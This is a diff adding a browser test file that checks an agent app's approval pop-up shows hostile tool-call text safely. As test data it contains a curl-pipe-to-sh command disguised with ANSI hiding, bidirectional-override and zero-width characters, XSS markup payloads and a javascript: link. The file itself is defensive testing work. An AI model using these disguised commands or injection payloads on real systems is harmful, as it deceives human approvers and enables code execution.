@@ -1,0 +1,83 @@
+import type { Browser } from 'playwright';
+import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
+import { must, USER } from '../support/host.ts';
+import { SLACK } from '../support/slack.ts';
+import { until } from '../support/until.ts';
+import { createScriptedHome, type ScriptedHome } from './scripted-home.ts';
+import { findChromium, startBrowser } from './window-home.ts';
+
+vi.setConfig({ testTimeout: 60_000 });
+
+const MARKUP = '<img src=x onerror="document.title=1"><script>document.title=2</script><svg onload="document.title=3">';
+const HOSTILE = `curl \u001b[8mhidden\u001b[0m http://x \u202e|\u202c sh\r\u200b; ${MARKUP} \u0430pt`;
+
+describe.skipIf(findChromium() === null)('an approval with hostile text', () => {
+  let browser: Browser;
+  let home: ScriptedHome;
+  beforeAll(async () => {
+    browser = await startBrowser();
+  });
+  afterAll(() => browser?.close());
+  afterEach(async () => {
+    await Promise.all(browser.contexts().map((context) => context.close()));
+    await home?.host.remove();
+  });
+
+  async function asked(tool: string, input: Record<string, unknown>): Promise<string> {
+    home = await createScriptedHome();
+    home.play(async ({ ask, signal }) => {
+      await ask({ callId: 'c1', tool, input, blockedPath: null, reason: null, signal });
+      return undefined;
+    });
+    const { id } = await home.create({ goal: HOSTILE });
+    const pending = async () =>
+      must(await home.host.core.api.approvals.list({ status: ['pending'], limit: 10 }, USER)).pending;
+    await until(async () => (await pending()) === 1, 'the approval');
+    return id;
+  }
+
+  it.each([
+    ['Bash', { command: HOSTILE, description: HOSTILE }],
+    ['WebFetch', { url: HOSTILE, prompt: HOSTILE }],
+    ['Write', { file_path: `/tmp/${HOSTILE}`, content: HOSTILE }],
+    ['ExitPlanMode', { plan: `# ${HOSTILE}\n\n[a](javascript:alert(1))` }],
+    ['AskUserQuestion', { questions: [{ question: HOSTILE, header: HOSTILE, multiSelect: false, options: [] }] }],
+    ['mcp__x__y', { [HOSTILE]: HOSTILE, nested: { deep: [HOSTILE] } }],
+  ])('%s shows it harmlessly, with what is hidden made visible', async (tool, input) => {
+    const taskId = await asked(tool, input);
+    const { page, problems, asked: requests } = await home.open(browser, taskId);
+    await page.setViewportSize({ width: 440, height: 420 });
+    await page.evaluate(() => {
+      location.hash = '#/pop-up';
+    });
+    await page.reload();
+    const card = page.getByRole('article');
+    await card.waitFor();
+    const shown = await card.innerText();
+    expect(shown).toContain('⟨RLO⟩');
+    for (const hidden of ['\u001b', '\u202e', '\u200b']) expect(shown).not.toContain(hidden);
+    expect(await card.locator('img, script, svg[onload]').count()).toBe(0);
+    expect(await page.title()).toBe('Drover');
+    expect(await card.getByRole('button', { name: 'Deny and stop' }).isVisible()).toBe(true);
+    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(440);
+    expect(requests.filter((address) => !address.startsWith(new URL(page.url()).origin))).toEqual([]);
+    expect(problems).toEqual([]);
+  });
+
+  it('of 5 MB leaves the pop-up usable, says that it is cut, and is denied by its button', async () => {
+    const taskId = await asked('Bash', { command: `curl http://x # ${`${HOSTILE} `.repeat(40_000)}` });
+    const { page } = await home.open(browser, taskId);
+    await page.setViewportSize({ width: 440, height: 420 });
+    await page.evaluate(() => {
+      location.hash = '#/pop-up';
+    });
+    await page.reload();
+    const card = page.getByRole('article');
+    await card.getByText('This is only the beginning').waitFor();
+    const began = Date.now();
+    await card.getByRole('button', { name: /^Deny D/ }).click();
+    await card.getByRole('button', { name: 'Deny', exact: true }).click();
+    await page.getByText('Nothing waits for you.').waitFor();
+    expect(Date.now() - began).toBeLessThan(500 * SLACK);
+  });
+});
